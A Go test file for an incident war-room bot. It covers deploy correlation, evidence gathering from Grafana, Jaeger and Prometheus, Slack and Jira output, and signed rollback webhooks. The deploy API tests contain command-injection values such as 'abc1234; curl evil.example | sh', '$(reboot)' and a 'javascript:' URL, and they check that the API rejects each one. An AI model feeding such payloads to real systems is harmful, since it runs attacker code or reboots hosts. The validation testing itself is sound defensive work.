package bot_test

import (
	"cmp"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	gogit "github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing/object"

	"github.com/warroom/warroom/bot/config"
	"github.com/warroom/warroom/bot/render/slackmsg"
	"github.com/warroom/warroom/bot/steps/actions"
	"github.com/warroom/warroom/incident"
	"github.com/warroom/warroom/integrations/alertmanager/amtest"
	"github.com/warroom/warroom/integrations/grafana/grafanatest"
	"github.com/warroom/warroom/integrations/jaeger/jaegertest"
	"github.com/warroom/warroom/integrations/jira/jiratest"
	"github.com/warroom/warroom/integrations/prometheus/prometheustest"
	"github.com/warroom/warroom/integrations/slack/slacktest"
	"github.com/warroom/warroom/internal/clocktest"
	"github.com/warroom/warroom/internal/loadgen"
)

// fixtureStart is when the captured payment-gateway alert started.
var fixtureStart = time.Date(2026, 11, 26, 4, 24, 38, 185e6, time.UTC)

const correlationConfig = `
rules:
  - name: api-error-rate
    match: '{alertname=~"HighErrorRate|ElevatedErrorRate|PodErrorRate|API error rate"}'
    value: {annotation: error_rate, grafana: B}
    threshold: "0.8%"
    incident_key: [service, env]
    severity: critical
    runbook: "{{.Annotations.runbook_url}}"
    rollback:
      command: "argocd app rollback {{.Service}} {{.TargetRevision}}"
`

// deploy records a deploy through the API.
func (h *harness) deploy(body string) reply {
	h.t.Helper()
	return h.post("/api/v1/deploys", []byte(body), nil)
}

// The fixtures with two recorded deploys of payment-gateway: the summary
// and the ticket name the 12-minute-old deploy as the suspect, the older
// one as the target, and the rendered rollback command; checkout, with no
// deploys, says so.
func TestSuspectDeployInWarRoom(t *testing.T) {
	t.Parallel()
	slackFake := workspace(t)
	jiraFake := jiratest.New()
	t.Cleanup(jiraFake.Close)
	parsed, err := config.Parse([]byte(correlationConfig), "correlation.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := startJira(t, jiraFake, "cloud", func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Slack.BotToken, c.Slack.APIURL, c.Slack.DryRun = slacktest.BotToken, slackFake.URL(), false
		c.Deploys.CompareURL = "https://github.com/example/{{.Service}}/compare/{{.TargetRevision}}...{{.Revision}}"
	})
	old := fixtureStart.Add(-3 * time.Hour).Format(time.RFC3339)
	recent := fixtureStart.Add(-12 * time.Minute).Format(time.RFC3339)
	for _, body := range []string{
		`{"service":"payment-gateway","env":"prod","sha":"0a1b2c3d4e5f60718293a4b5c6d7e8f901234567","author":"carol","finished_at":"` + old + `"}`,
		`{"service":"payment-gateway","env":"prod","sha":"9f8e7d6c5b4a39281706f5e4d3c2b1a098765432","previous_sha":"0a1b2c3d4e5f60718293a4b5c6d7e8f901234567","author":"alice","url":"https://ci.example.com/runs/7","finished_at":"` + recent + `"}`,
	} {
		if r := h.deploy(body); r.code != http.StatusCreated {
			t.Fatalf("record deploy: %d %s", r.code, r.body)
		}
	}

	h.deliver("alertmanager/firing-high-error-rate.json")
	is := h.ticket(t, jiraFake, "INC-1")
	h.waitFor("the war room", func() bool { return h.ready("INC-1") && h.settled("INC-1") })
	inc := h.incident("INC-1")
	if inc.Evidence == nil || inc.Evidence.Suspect == nil || inc.SuspectDeploy != "9f8e7d6c5b4a39281706f5e4d3c2b1a098765432" {
		t.Fatalf("evidence %+v suspect %q", inc.Evidence, inc.SuspectDeploy)
	}
	command := "argocd app rollback payment-gateway 0a1b2c3d4e5f60718293a4b5c6d7e8f901234567"
	summary := blocksText(messagesOf(slackFake, inc.SlackChannelID, "warroom_summary")[0])
	for _, want := range []string{"*suspect* `9f8e7d6` payment-gateway by alice, 12m before the alert", "`0a1b2c3` payment-gateway by carol, 3h before the alert",
		"roll back to 0a1b2c3", command, "compare/0a1b2c3d4e5f60718293a4b5c6d7e8f901234567...9f8e7d6c5b4a39281706f5e4d3c2b1a098765432|diff"} {
		if !strings.Contains(summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, summary)
		}
	}
	is, _ = jiraFake.Issue(is.Key)
	for _, want := range []string{"*Suspect deploy:* 9f8e7d6 by alice", "*Roll back to:* 0a1b2c3", "{noformat}\n" + command + "\n{noformat}", "9f8e7d6 payment\\-gateway by alice, 12m before the alert *(suspect)*"} {
		if !strings.Contains(is.Description, want) {
			t.Errorf("ticket lacks %q:\n%s", want, is.Description)
		}
	}

	// checkout has no deploys: it says so, and suggests nothing.
	h.deliver("alertmanager/firing-below-threshold.json")
	h.deliver("grafana/firing-error-rate.json")
	checkout := h.ticket(t, jiraFake, "INC-2")
	h.waitFor("checkout's war room", func() bool { return h.ready("INC-2") && h.settled("INC-2") })
	inc = h.incident("INC-2")
	summary = blocksText(messagesOf(slackFake, inc.SlackChannelID, "warroom_summary")[0])
	if !strings.Contains(summary, "no deploy in the last 2h") || strings.Contains(summary, "argocd") {
		t.Errorf("checkout summary:\n%s", summary)
	}
	if !strings.Contains(checkout.Description, "no deploy in the last 2h: warroom suggests no rollback") {
		t.Errorf("checkout ticket:\n%s", checkout.Description)
	}
}

func TestDeploysAPI(t *testing.T) {
	t.Parallel()
	h := start(t, nil)
	for _, tc := range []struct {
		body string
		code int
		want string
	}{
		{`{"service":"pay","sha":"abc1234"}`, http.StatusCreated, `"recorded":true`},
		{`{"service":"pay","sha":"abc1234","finished_at":"2026-11-26T04:00:00Z"}`, http.StatusCreated, `"finished_at":"2026-11-26T04:00:00Z"`},
		{`{"service":"pay","sha":"abc1234","finished_at":"2026-11-26T04:00:00Z"}`, http.StatusOK, `"recorded":false`},
		// A CI job that retries: the same SHA within 10 minutes is the
		// deploy recorded, as is the same id (an idempotency key).
		{`{"service":"pay","sha":"abc1234","finished_at":"2026-11-26T04:09:00Z"}`, http.StatusOK, `"finished_at":"2026-11-26T04:00:00Z","source":"api"},"recorded":false}`},
		{`{"service":"pay","sha":"def5678","id":"ci-1842"}`, http.StatusCreated, `"idempotency_key":"ci-1842"}`},
		{`{"service":"pay","sha":"def5678","id":"ci-1842","finished_at":"2026-11-26T03:00:00Z"}`, http.StatusOK, `"recorded":false`},
		{`{"service":"pay","sha":"fed9876","id":1843}`, http.StatusCreated, `"idempotency_key":"1843"}`},
		{`{"service":"pay","sha":"fed9876","id":true}`, http.StatusBadRequest, "id: want a string or a number"},
		{`{"sha":"abc"}`, http.StatusBadRequest, "a deploy needs a service"},
		{`{"service":"pay","sha":"x","colour":"red"}`, http.StatusBadRequest, "unknown field"},
		{`{"service":`, http.StatusBadRequest, "malformed JSON"},
		{`{"service":"pay","sha":"abc1234","url":"javascript:alert(1)"}`, http.StatusBadRequest, "url must be http(s)"},
		{`{"service":"pay","sha":"abc1234","finished_at":"2999-01-01T00:00:00Z"}`, http.StatusBadRequest, "in the future"},
		// Revisions go into rollback commands: only Git SHAs are taken.
		{`{"service":"pay","sha":"xyz"}`, http.StatusBadRequest, `sha \"xyz\" is not a Git SHA`},
		{`{"service":"pay","sha":"abc1234; curl evil.example | sh"}`, http.StatusBadRequest, `sha \"abc1234; curl evil.example | sh\" is not a Git SHA`},
		{`{"service":"pay","sha":"abc123"}`, http.StatusBadRequest, "is not a Git SHA (7-64 hex digits)"},
		{`{"service":"pay","sha":"abc1234","previous_sha":"main"}`, http.StatusBadRequest, `previous_sha \"main\" is not a Git SHA`},
		{`{"service":"pay","version":"1.2; reboot"}`, http.StatusBadRequest, `version \"1.2; reboot\" is not a version`},
		{`{"service":"pay","version":"v1.4.2"}`, http.StatusCreated, `"sha":"v1.4.2"`},
	} {
		r := h.deploy(tc.body)
		if r.code != tc.code || !strings.Contains(string(r.body), tc.want) {
			t.Errorf("%s: %d %s, want %d with %q", tc.body, r.code, r.body, tc.code, tc.want)
		}
	}
	if r := h.post("/api/v1/deploys", []byte(`{"service":"pay","sha":"x"}`), map[string]string{"Authorization": "Bearer wrong"}); r.code != http.StatusUnauthorized {
		t.Errorf("wrong token: %d", r.code)
	}
	big := `{"service":"pay","sha":"` + strings.Repeat("a", 2<<20) + `"}`
	if r := h.deploy(big); r.code != http.StatusBadRequest || !strings.Contains(string(r.body), "body over") {
		t.Errorf("2 MiB body: %d %s", r.code, r.body)
	}

	// Argo CD's notification webhook, {"app": {{toJson .app}}}.
	argo := map[string]any{"app": map[string]any{
		"metadata": map[string]any{"name": "payment-gateway-prod", "labels": map[string]string{"app.kubernetes.io/name": "payment-gateway", "env": "prod"}},
		"spec":     map[string]any{"source": map[string]string{"repoURL": "https://github.com/example/gitops"}, "destination": map[string]string{"namespace": "payments"}},
		"status": map[string]any{
			"sync": map[string]string{"revision": "fedcba9"},
			"operationState": map[string]any{"phase": "Succeeded", "finishedAt": "2026-11-26T04:12:00Z",
				"operation":  map[string]any{"initiatedBy": map[string]string{"username": "argo-bot"}},
				"syncResult": map[string]string{"revision": "fedcba9876543210"}},
			"history": []map[string]string{{"revision": "1111111"}, {"revision": "fedcba9876543210"}},
		},
	}}
	body, _ := json.Marshal(argo)
	r := h.post("/api/v1/deploys/argocd", body, nil)
	if r.code != http.StatusCreated {
		t.Fatalf("argocd: %d %s", r.code, r.body)
	}
	var got struct{ Deploy incident.Deploy }
	_ = json.Unmarshal(r.body, &got)
	d := got.Deploy
	if d.Service != "payment-gateway" || d.Env != "prod" || d.SHA != "fedcba9876543210" || d.PreviousSHA != "1111111" ||
		d.Author != "argo-bot" || d.Source != "argocd" || !d.FinishedAt.Equal(time.Date(2026, 11, 26, 4, 12, 0, 0, time.UTC)) {
		t.Errorf("argocd deploy %+v", d)
	}
	argo["app"].(map[string]any)["status"].(map[string]any)["operationState"].(map[string]any)["phase"] = "Failed"
	body, _ = json.Marshal(argo)
	if r := h.post("/api/v1/deploys/argocd", body, nil); r.code != http.StatusOK || !strings.Contains(string(r.body), "sync phase Failed") {
		t.Errorf("failed sync: %d %s", r.code, r.body)
	}
	if r := h.post("/api/v1/deploys/argocd", []byte(`{"application":"x"}`), nil); r.code != http.StatusBadRequest {
		t.Errorf("not an Argo CD body: %d %s", r.code, r.body)
	}
	// A Helm chart's version is recorded as the version; a revision that
	// is neither a SHA nor a version is refused.
	status := argo["app"].(map[string]any)["status"].(map[string]any)
	status["operationState"].(map[string]any)["phase"] = "Succeeded"
	status["operationState"].(map[string]any)["syncResult"] = map[string]string{"revision": "1.4.2"}
	status["history"] = []map[string]string{{"revision": "1.4.1"}, {"revision": "1.4.2"}}
	body, _ = json.Marshal(argo)
	if r := h.post("/api/v1/deploys/argocd", body, nil); r.code != http.StatusCreated || !strings.Contains(string(r.body), `"version":"1.4.2"`) ||
		strings.Contains(string(r.body), "previous_sha") {
		t.Errorf("chart version: %d %s", r.code, r.body)
	}
	status["operationState"].(map[string]any)["syncResult"] = map[string]string{"revision": "$(reboot)"}
	body, _ = json.Marshal(argo)
	if r := h.post("/api/v1/deploys/argocd", body, nil); r.code != http.StatusBadRequest || !strings.Contains(string(r.body), `sha \"$(reboot)\" is not a Git SHA`) {
		t.Errorf("hostile revision: %d %s", r.code, r.body)
	}

	list := h.get("/api/v1/deploys?service=payment-gateway")
	if list.code != http.StatusOK || !strings.Contains(string(list.body), "fedcba9876543210") || strings.Contains(string(list.body), `"pay"`) {
		t.Errorf("list: %d %s", list.code, list.body)
	}
}

// evidenceFakes are Grafana, Jaeger and Prometheus fakes seeded for the
// payment-gateway fixture.
type evidenceFakes struct {
	grafana *grafanatest.Server
	jaeger  *jaegertest.Server
	prom    *prometheustest.Server
}

func startEvidenceFakes(t *testing.T, clock *clocktest.Clock) evidenceFakes {
	f := evidenceFakes{grafana: grafanatest.New(), jaeger: jaegertest.New(jaegertest.WithClock(clock.Now)),
		prom: prometheustest.New(prometheustest.WithClock(clock.Now))}
	t.Cleanup(f.grafana.Close)
	t.Cleanup(f.jaeger.Close)
	t.Cleanup(f.prom.Close)
	f.grafana.AddDashboard(grafanatest.Dashboard{UID: "api-golden-signals", Title: "API golden signals", Tags: []string{"payments"}})
	f.grafana.AddDashboard(grafanatest.Dashboard{UID: "pg-db", Title: "Payments database", Tags: []string{"payments"}})
	for i := range 3 {
		f.jaeger.AddTrace(jaegertest.Span{Service: "payment-gateway", Operation: "POST /v1/charge", Start: clock.Now().Add(-time.Duration(i+1) * time.Minute),
			Duration: 1200 * time.Millisecond, Error: true, Message: "upstream 503",
			Children: []jaegertest.Span{{Service: "ledger", Operation: "INSERT payments", Duration: 900 * time.Millisecond, Error: true, Message: "deadlock detected"}}})
	}
	return f
}

const evidenceRules = `
rules:
  - name: api-error-rate
    match: '{alertname=~"HighErrorRate|PodErrorRate"}'
    value: {annotation: error_rate, query: 'sum(rate(http_requests_total{service="{{.Labels.service}}",status=~"5.."}[5m])) / sum(rate(http_requests_total{service="{{.Labels.service}}"}[5m]))'}
    threshold: "0.8%"
    incident_key: [service, env]
    grafana:
      dashboards:
        - uid: api-golden-signals
          vars: {service: "{{.Labels.service}}", env: "{{.Labels.env}}"}
      tag: payments
    rollback:
      command: "argocd app rollback {{.Service}} {{.TargetRevision}}"
`

// startWithEvidence runs warroom on clock with real Slack and Jira and the
// evidence fakes f; jaegerURL, if set, stands for f's Jaeger.
func startWithEvidence(t *testing.T, clock *clocktest.Clock, f evidenceFakes, jaegerURL string, budget time.Duration) (*harness, *slacktest.Server, *jiratest.Server) {
	t.Helper()
	slackFake := workspace(t)
	jiraFake := jiratest.New()
	t.Cleanup(jiraFake.Close)
	parsed, err := config.Parse([]byte(evidenceRules), "evidence.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := startOn(t, clock, jiraSettings(t, jiraFake, "cloud", func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Slack.BotToken, c.Slack.APIURL, c.Slack.DryRun = slacktest.BotToken, slackFake.URL(), false
		c.Grafana.URL, c.Grafana.Token = f.grafana.URL(), grafanatest.Token
		c.Jaeger.URL, c.Prometheus.URL = cmp.Or(jaegerURL, f.jaeger.URL()), f.prom.URL()
		c.CorrelationBudget = config.Duration(budget)
	}))
	return h, slackFake, jiraFake
}

// Grafana by UID and by tag, Jaeger's failing traces and Prometheus's
// value are in the first summary and the ticket.
func TestEvidenceSources(t *testing.T) {
	t.Parallel()
	clock := newClock()
	f := startEvidenceFakes(t, clock)
	expr := `sum(rate(http_requests_total{service="payment-gateway",status=~"5.."}[5m])) / sum(rate(http_requests_total{service="payment-gateway"}[5m]))`
	f.prom.SetSeries(expr, prometheustest.Point{At: fixtureStart.Add(-time.Minute), Value: 0.031}, prometheustest.Point{At: clock.Now().Add(-time.Minute), Value: 0.027})
	h, slackFake, jiraFake := startWithEvidence(t, clock, f, "", 2*time.Second)
	h.deliver("alertmanager/firing-high-error-rate.json")
	is := h.ticket(t, jiraFake, "INC-1")
	h.waitFor("the war room", func() bool { return h.ready("INC-1") && h.settled("INC-1") })
	inc := h.incident("INC-1")
	ev := inc.Evidence
	if ev == nil || ev.Round != 1 || len(ev.Traces) != 3 || len(ev.Dashboards) != 2 || ev.ValueAtOpen == nil || *ev.ValueAtOpen != 0.031 || *ev.ValueNow != 0.027 {
		t.Fatalf("evidence %+v", ev)
	}
	summaries := messagesOf(slackFake, inc.SlackChannelID, "warroom_summary")
	if summaries[0].Edits != 0 && !strings.Contains(blocksText(summaries[0]), "Failing traces") {
		t.Errorf("evidence not in the summary")
	}
	summary := blocksText(summaries[0])
	for _, want := range []string{"POST /v1/charge", "failed in ledger: INSERT payments", "API golden signals", "var-service=payment-gateway",
		"Payments database", "3.1% at the start, 2.7% now", "Failing traces in Jaeger"} {
		if !strings.Contains(summary, want) {
			t.Errorf("summary lacks %q:\n%s", want, summary)
		}
	}
	for _, want := range []string{"INSERT payments", "API golden signals", "Prometheus: 3.1% at the start, 2.7% now"} {
		if !strings.Contains(is.Description, want) {
			t.Errorf("ticket lacks %q:\n%s", want, is.Description)
		}
	}
	// Before resolving, Prometheus says whether the rate is back.
	if reply := h.command("resolve INC-1 rolled back"); !strings.Contains(reply, "Prometheus: still 2.7% now, above the 0.8% threshold") {
		t.Errorf("/warroom resolve: %q", reply)
	}
}

// A Jaeger that does not answer does not hold the war room: channel,
// summary and ticket are there while Jaeger has not answered yet (it
// answers only when the test lets it), and the traces come as an update.
// A Jaeger that is down is named.
func TestSlowAndDownJaeger(t *testing.T) {
	t.Parallel()
	t.Run("slow", func(t *testing.T) {
		t.Parallel()
		clock := newClock()
		f := startEvidenceFakes(t, clock)
		jaeger := holdAnswers(t, f.jaeger.URL())
		h, slackFake, jiraFake := startWithEvidence(t, clock, f, jaeger.url, 300*time.Millisecond)
		h.deliver("alertmanager/firing-high-error-rate.json")
		h.waitFor("channel, summary and ticket", func() bool {
			inc := h.incident("INC-1")
			return inc.SummaryTS != "" && inc.JiraKey != ""
		})
		if held, answered := jaeger.held.Load(), len(f.jaeger.Calls()); held == 0 || answered != 0 {
			t.Fatalf("Jaeger held %d calls and answered %d; want the war room ready while Jaeger is asked and silent", held, answered)
		}
		inc := h.incident("INC-1")
		if inc.Evidence == nil || fmt.Sprint(inc.Evidence.Pending) != "[Jaeger]" {
			t.Fatalf("first evidence %+v, want Jaeger pending", inc.Evidence)
		}
		if s := blocksText(messagesOf(slackFake, inc.SlackChannelID, "warroom_summary")[0]); !strings.Contains(s, "still asking Jaeger") || !strings.Contains(s, "API golden signals") {
			t.Errorf("first summary:\n%s", s)
		}
		jaeger.open()
		h.waitFor("the traces as an update", func() bool {
			ev := h.incident("INC-1").Evidence
			return ev != nil && ev.Round == 2 && len(ev.Traces) == 3 && h.settled("INC-1") && h.jiraSettled("INC-1")
		})
		if s := blocksText(messagesOf(slackFake, inc.SlackChannelID, "warroom_summary")[0]); !strings.Contains(s, "POST /v1/charge") {
			t.Errorf("updated summary lacks the traces:\n%s", s)
		}
		if is, _ := jiraFake.Issue(inc.JiraKey); !strings.Contains(is.Description, "INSERT payments") {
			t.Errorf("ticket description not updated with the traces:\n%s", is.Description)
		}
	})

	// Jaeger down: said so, everything else there.
	t.Run("down", func(t *testing.T) {
		t.Parallel()
		clock := newClock()
		f := startEvidenceFakes(t, clock)
		f.jaeger.Close()
		h, slackFake, _ := startWithEvidence(t, clock, f, "", time.Second)
		h.deliver("alertmanager/firing-high-error-rate.json")
		h.waitFor("the war room without Jaeger", func() bool { return h.ready("INC-1") && h.settled("INC-1") })
		inc := h.incident("INC-1")
		s := blocksText(messagesOf(slackFake, inc.SlackChannelID, "warroom_summary")[0])
		if !strings.Contains(s, ":warning: Jaeger: ") || !strings.Contains(s, "API golden signals") {
			t.Errorf("summary with Jaeger down:\n%s", s)
		}
	})
}

// heldAnswers stands in front of a fake and holds every request until
// the test opens it (or the caller gives up): an outside API that answers
// only when the test lets it.
type heldAnswers struct {
	url  string
	held atomic.Int32 // requests that came while closed
	open func()
}

func holdAnswers(t *testing.T, target string) *heldAnswers {
	t.Helper()
	u, err := url.Parse(target)
	if err != nil {
		t.Fatal(err)
	}
	proxy := httputil.NewSingleHostReverseProxy(u)
	opened := make(chan struct{})
	g := &heldAnswers{open: sync.OnceFunc(func() { close(opened) })}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		select {
		case <-opened:
		default:
			g.held.Add(1)
			select {
			case <-opened:
			case <-r.Context().Done():
				return
			}
		}
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	t.Cleanup(g.open) // runs first: no request stays held at the end
	g.url = srv.URL
	return g
}

// A GitOps repository, made here with go-git, as the deploy source: the
// commits that touched the service's path are its deploys.
func TestGitDeploySource(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	repo, err := gogit.PlainInit(dir, false)
	if err != nil {
		t.Fatal(err)
	}
	wt, err := repo.Worktree()
	if err != nil {
		t.Fatal(err)
	}
	commit := func(path, content, author string, when time.Time) string {
		t.Helper()
		full := filepath.Join(dir, path)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
		if _, err := wt.Add(path); err != nil {
			t.Fatal(err)
		}
		sig := &object.Signature{Name: author, Email: author + "@example.com", When: when}
		h, err := wt.Commit("deploy "+path, &gogit.CommitOptions{Author: sig, Committer: sig})
		if err != nil {
			t.Fatal(err)
		}
		return h.String()
	}
	old := commit("apps/payment-gateway/prod.yaml", "image: pg:1.41\n", "carol", fixtureStart.Add(-3*time.Hour))
	commit("apps/checkout/prod.yaml", "image: co:2.0\n", "erin", fixtureStart.Add(-20*time.Minute))
	suspect := commit("apps/payment-gateway/prod.yaml", "image: pg:1.42\n", "alice", fixtureStart.Add(-12*time.Minute))

	parsed, err := config.Parse([]byte(correlationConfig), "git.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := start(t, func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Deploys.Git = &config.GitDeploys{URL: dir, Path: "apps/{{.Service}}"}
	})
	h.deliver("alertmanager/firing-high-error-rate.json")
	h.waitFor("the evidence", func() bool { return h.incident("INC-1").Evidence != nil })
	ev := h.incident("INC-1").Evidence
	if ev.Suspect == nil || ev.Suspect.SHA != suspect || ev.Suspect.Source != "git" || ev.Suspect.Author != "alice" ||
		ev.Target == nil || ev.Target.SHA != old {
		t.Fatalf("suspect %+v target %+v, want %s then %s", ev.Suspect, ev.Target, suspect, old)
	}
	if ev.Rollback != "argocd app rollback payment-gateway "+old {
		t.Errorf("rollback %q", ev.Rollback)
	}
	if len(ev.Deploys) != 2 {
		t.Errorf("deploys %+v, want payment-gateway's two (not checkout's)", ev.Deploys)
	}
}

// /warroom silence makes an Alertmanager silence for the incident's
// alerts; the resolve expires it. The Roll back button calls the rule's
// webhook with the suggestion, signed.
func TestSilenceAndRollbackWebhook(t *testing.T) {
	t.Parallel()
	clock := newClock()
	am := amtest.New(amtest.WithClock(clock.Now))
	t.Cleanup(am.Close)
	type call struct {
		body []byte
		sig  string
	}
	calls := make(chan call, 4)
	hook := httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		calls <- call{b, r.Header.Get("X-Warroom-Signature")}
	}))
	t.Cleanup(hook.Close)
	rulesYAML := strings.Replace(correlationConfig, `command: "argocd app rollback {{.Service}} {{.TargetRevision}}"`,
		`command: "argocd app rollback {{.Service}} {{.TargetRevision}}"`+"\n      webhook_url: "+hook.URL, 1)
	parsed, err := config.Parse([]byte(rulesYAML), "silence.yaml")
	if err != nil {
		t.Fatal(err)
	}
	h := startOn(t, clock, func(c *config.Config) {
		c.Rules = parsed.Rules
		c.Alertmanager.URL = am.URL()
		c.Slack.SigningSecret = testSigningSecret
		c.Rollback.WebhookSecret = "rollback-secret"
	})
	for _, body := range []string{
		`{"service":"payment-gateway","env":"prod","sha":"aaaaaaa1","finished_at":"` + fixtureStart.Add(-3*time.Hour).Format(time.RFC3339) + `"}`,
		`{"service":"payment-gateway","env":"prod","sha":"bbbbbbb2","finished_at":"` + fixtureStart.Add(-12*time.Minute).Format(time.RFC3339) + `"}`,
	} {
		if r := h.deploy(body); r.code != http.StatusCreated {
			t.Fatalf("deploy: %d %s", r.code, r.body)
		}
	}
	h.deliver("alertmanager/firing-high-error-rate.json")
	h.waitFor("the evidence", func() bool { return h.incident("INC-1").Evidence != nil })

	reply := h.command("silence INC-1 2h")
	if !strings.Contains(reply, "silenced for 2h") || !strings.Contains(reply, `alertname=~"HighErrorRate"`) {
		t.Errorf("silence reply %q", reply)
	}
	ss := am.Silences()
	if len(ss) != 1 || ss[0].State != "active" {
		t.Fatalf("silences %+v", ss)
	}
	if reply := h.command("deploys INC-1"); !strings.Contains(reply, "*suspect* `bbbbbbb` payment-gateway, 12m before the alert") {
		t.Errorf("/warroom deploys: %q", reply)
	}
	if reply := h.command("rollback INC-1"); !strings.Contains(reply, "argocd app rollback payment-gateway aaaaaaa1") {
		t.Errorf("/warroom rollback: %q", reply)
	}

	// The Roll back button, as Slack sends it.
	payload, _ := json.Marshal(map[string]any{"type": "block_actions", "user": map[string]string{"id": "U0ALICE01"},
		"response_url": "https://hooks.slack.com/actions/T1/1/x", "trigger_id": "t1",
		"actions": []map[string]string{{"action_id": slackmsg.ActionRollback, "value": "INC-1", "type": "button", "block_id": "summary_actions"}}})
	form := "payload=" + url.QueryEscape(string(payload))
	ts, sig := loadgen.SignSlack(testSigningSecret, form, h.now())
	if r := h.post("/slack/interactions", []byte(form), map[string]string{"Content-Type": "application/x-www-form-urlencoded",
		"X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig}); r.code != http.StatusOK {
		t.Fatalf("button: %d %s", r.code, r.body)
	}
	select {
	case c := <-calls:
		if c.sig != actions.SignRollback("rollback-secret", c.body) {
			t.Errorf("signature %q does not match the body", c.sig)
		}
		var req actions.RollbackRequest
		if err := json.Unmarshal(c.body, &req); err != nil || req.Incident != "INC-1" || req.SuspectSHA != "bbbbbbb2" ||
			req.TargetRevision != "aaaaaaa1" || req.RequestedBy != "U0ALICE01" || req.Command != "argocd app rollback payment-gateway aaaaaaa1" {
			t.Errorf("webhook body %s (%v)", c.body, err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("the rollback webhook was not called")
	}

	h.deliver("alertmanager/resolved-high-error-rate.json")
	h.waitFor("the silence to expire", func() bool { ss := am.Silences(); return len(ss) == 1 && ss[0].State == "expired" })
}
